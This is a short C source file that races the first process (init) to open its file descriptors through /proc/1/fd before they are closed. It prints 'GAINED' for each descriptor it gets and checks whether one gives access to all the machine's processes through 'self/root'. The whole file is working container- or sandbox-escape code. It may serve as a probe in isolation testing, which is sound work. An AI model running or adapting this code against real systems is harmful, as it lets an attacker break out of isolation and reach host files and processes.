// Opens the files of the first process at once, before that process has closed those that it does
// not need.
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
  char path[64], target[256];
  for (int number = 3; number < 64; number++) {
    snprintf(path, sizeof path, "/proc/1/fd/%d", number);
    int file = open(path, O_RDONLY | O_NONBLOCK);
    if (file < 0) file = open(path, O_WRONLY | O_NONBLOCK);
    if (file < 0) continue;
    long size = readlink(path, target, sizeof target - 1);
    target[size < 0 ? 0 : size] = 0;
    printf("GAINED %s: %s\n", path, target);
    if (faccessat(file, "self/root", F_OK, 0) == 0) puts("GAINED the processes of the machine");
  }
  puts("done");
}
